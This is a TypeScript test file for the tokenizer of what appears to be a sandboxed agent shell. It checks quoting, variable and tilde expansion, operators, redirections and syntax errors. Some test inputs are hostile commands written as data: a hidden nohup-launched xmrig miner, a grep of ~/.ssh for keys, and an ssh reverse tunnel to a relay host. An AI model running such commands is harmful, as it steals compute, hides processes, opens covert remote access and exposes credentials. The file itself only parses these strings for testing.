import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { readCommandLine, quoteWord, type ListEntry } from '../../env/sandbox/shell/tokenize.js';

const VARS = { HOME: '/home/agent', USER: 'agent', API_KEY: 'sk-123' };

function read(line: string): readonly ListEntry[] {
  const r = readCommandLine(line, { vars: VARS });
  if (!r.ok) assert.fail(`expected '${line}' to read, got error: ${r.error}`);
  return r.entries;
}

function argvOf(line: string): string[][] {
  return read(line).flatMap((e) => e.pipeline.commands.map((c) => [...c.argv]));
}

test('plain words split on blanks', () => {
  assert.deepEqual(argvOf('python   train.py\t--gpu 3'), [['python', 'train.py', '--gpu', '3']]);
  assert.deepEqual(argvOf('./xmrig -o pool.example:3333 --gpu 2'), [['./xmrig', '-o', 'pool.example:3333', '--gpu', '2']]);
});

test('single quotes are literal, double quotes expand $VAR and honour \\ escapes', () => {
  assert.deepEqual(argvOf(`echo 'a b $HOME \\n'`), [['echo', 'a b $HOME \\n']]);
  assert.deepEqual(argvOf(`echo "a b $USER \\" \\$x \\q"`), [['echo', 'a b agent " $x \\q']]);
  assert.deepEqual(argvOf(`grep -r "KEY" ~/.ssh`), [['grep', '-r', 'KEY', '/home/agent/.ssh']]);
  assert.deepEqual(argvOf(`cat pre"mid"'x'post`), [['cat', 'premidxpost']]);
  assert.deepEqual(argvOf(`echo ''`), [['echo', '']]);
});

test('backslash escapes blanks and operators outside quotes', () => {
  assert.deepEqual(argvOf('cat my\\ file \\&\\& \\;'), [['cat', 'my file', '&&', ';']]);
});

test('variables: $NAME, ${NAME}, ${NAME:-default}, unknown names expand empty', () => {
  assert.deepEqual(argvOf('echo $API_KEY ${USER}x ${NOPE:-fallback} [$NOPE] $'), [
    ['echo', 'sk-123', 'agentx', 'fallback', '[]', '$'],
  ]);
  // Names of Object.prototype members are variables like any other (unset here).
  assert.deepEqual(argvOf('echo $constructor ${toString} "$valueOf"'), [['echo', '', '', '']]);
});

test('tilde expands only at the start of a word', () => {
  assert.deepEqual(argvOf('ls ~ ~/.ssh a~b'), [['ls', '/home/agent', '/home/agent/.ssh', 'a~b']]);
  assert.deepEqual(argvOf("ls '~'"), [['ls', '~']]);
});

test('comments run to the end of the line', () => {
  assert.deepEqual(argvOf('nvidia-smi # check the GPUs'), [['nvidia-smi']]);
  assert.deepEqual(argvOf('echo a#b'), [['echo', 'a#b']]);
  assert.deepEqual(read('# only a comment'), []);
});

test('env-var prefixes become assignments, not argv', () => {
  const [entry] = read('CUDA_VISIBLE_DEVICES=3 FOO="a b" python train.py');
  const cmd = entry!.pipeline.commands[0]!;
  assert.deepEqual(cmd.assignments, [
    { name: 'CUDA_VISIBLE_DEVICES', value: '3' },
    { name: 'FOO', value: 'a b' },
  ]);
  assert.deepEqual(cmd.argv, ['python', 'train.py']);
  // After the command word, and when the name is quoted, NAME=value is an ordinary argument.
  assert.deepEqual(argvOf('env X=1 "Y=2"'), [['env', 'X=1', 'Y=2']]);
  assert.deepEqual(read('"X=1" cmd')[0]!.pipeline.commands[0]!.assignments, []);
});

test('&&, ||, ; and & join pipelines with the right connectors', () => {
  const entries = read('nvidia-smi && python train.py --gpu 0 || echo failed; ps aux & submit');
  assert.deepEqual(
    entries.map((e) => [e.connector, e.pipeline.commands[0]!.argv[0], e.background]),
    [
      [';', 'nvidia-smi', false],
      ['&&', 'python', false],
      ['||', 'echo', false],
      [';', 'ps', true],
      [';', 'submit', false],
    ],
  );
  assert.equal(read('sleep 5;')[0]!.background, false);
  assert.equal(read('./xmrig &')[0]!.background, true);
  assert.deepEqual(argvOf('a&&b;c'), [['a'], ['b'], ['c']]);
});

test('pipes build multi-command pipelines; ! negates', () => {
  const [e] = read('ps aux | grep xmrig | head -n 1');
  assert.deepEqual(
    e!.pipeline.commands.map((c) => c.argv),
    [['ps', 'aux'], ['grep', 'xmrig'], ['head', '-n', '1']],
  );
  assert.equal(e!.pipeline.negated, false);
  assert.equal(read('! pytest')[0]!.pipeline.negated, true);
});

test('redirections are separated from argv, with fds', () => {
  const cmd = read('nohup ./xmrig -o pool.example:3333 > /dev/null 2>&1 </dev/null &')[0]!.pipeline.commands[0]!;
  assert.deepEqual(cmd.argv, ['nohup', './xmrig', '-o', 'pool.example:3333']);
  assert.deepEqual(cmd.redirects, [
    { fd: 1, op: '>', target: '/dev/null' },
    { fd: 2, op: '>&', target: '1' },
    { fd: 0, op: '<', target: '/dev/null' },
  ]);
  assert.deepEqual(read('pytest &> log.txt')[0]!.pipeline.commands[0]!.redirects, [{ fd: -1, op: '&>', target: 'log.txt' }]);
  assert.deepEqual(read('echo x >> out')[0]!.pipeline.commands[0]!.redirects, [{ fd: 1, op: '>>', target: 'out' }]);
  // A quoted digit before > is an argument, not an fd.
  assert.deepEqual(read('echo "2">f')[0]!.pipeline.commands[0]!.argv, ['echo', '2']);
});

test('open quotes and trailing operators are incomplete; stray operators are syntax errors', () => {
  for (const line of ['echo "abc', "echo 'abc", 'echo abc \\', 'pytest &&', 'ps aux |', 'a ||', 'echo ${X']) {
    const r = readCommandLine(line);
    assert.equal(r.ok, false, line);
    if (!r.ok) assert.equal(r.incomplete, true, line);
  }
  const cases: [string, string][] = [
    ['&& ls', "syntax error near unexpected token `&&'"],
    ['ls ;; ls', "syntax error near unexpected token `;;'"],
    ['| grep x', "syntax error near unexpected token `|'"],
    ['cat >', "syntax error near unexpected token `newline'"],
    ['ls ; ; ls', "syntax error near unexpected token `;'"],
    ['cat <<EOF', 'here-documents are not supported in the sandbox shell'],
    ['echo ${a b}', '${a b}: bad substitution'],
  ];
  for (const [line, error] of cases) {
    const r = readCommandLine(line);
    assert.deepEqual(r, { ok: false, error, incomplete: false }, line);
  }
});

test('a multi-line continuation reads as one line', () => {
  assert.deepEqual(argvOf('ssh -fNR 2222:localhost:22 \\\n relay@203.0.113.7'), [
    ['ssh', '-fNR', '2222:localhost:22', 'relay@203.0.113.7'],
  ]);
  assert.deepEqual(argvOf('pytest &&\nsubmit'), [['pytest'], ['submit']]);
});

test('empty and blank lines read as an empty list', () => {
  assert.deepEqual(read(''), []);
  assert.deepEqual(read('   \t '), []);
});

test('property: arbitrary strings never throw and never hit the internal-error path', () => {
  const shellish = fc.string({
    unit: fc.constantFrom(...'ab 1$\'"\\|&;<>(){}#~=\n\t-./:@*?!'.split('')),
    maxLength: 40,
  });
  fc.assert(
    fc.property(fc.oneof(fc.string(), shellish, fc.string({ unit: 'binary' })), (s) => {
      const r = readCommandLine(s, { vars: VARS });
      if (!r.ok) assert.doesNotMatch(r.error, /^syntax error \(/);
    }),
    { numRuns: 3000, seed: 7 },
  );
});

test('property: quoteWord round-trips any word', () => {
  fc.assert(
    fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 5 }), (words) => {
      const r = readCommandLine(words.map(quoteWord).join(' '), { vars: VARS });
      assert.ok(r.ok);
      if (r.ok) assert.deepEqual(r.entries[0]!.pipeline.commands[0]!.argv, words);
    }),
    { numRuns: 1000, seed: 11 },
  );
});
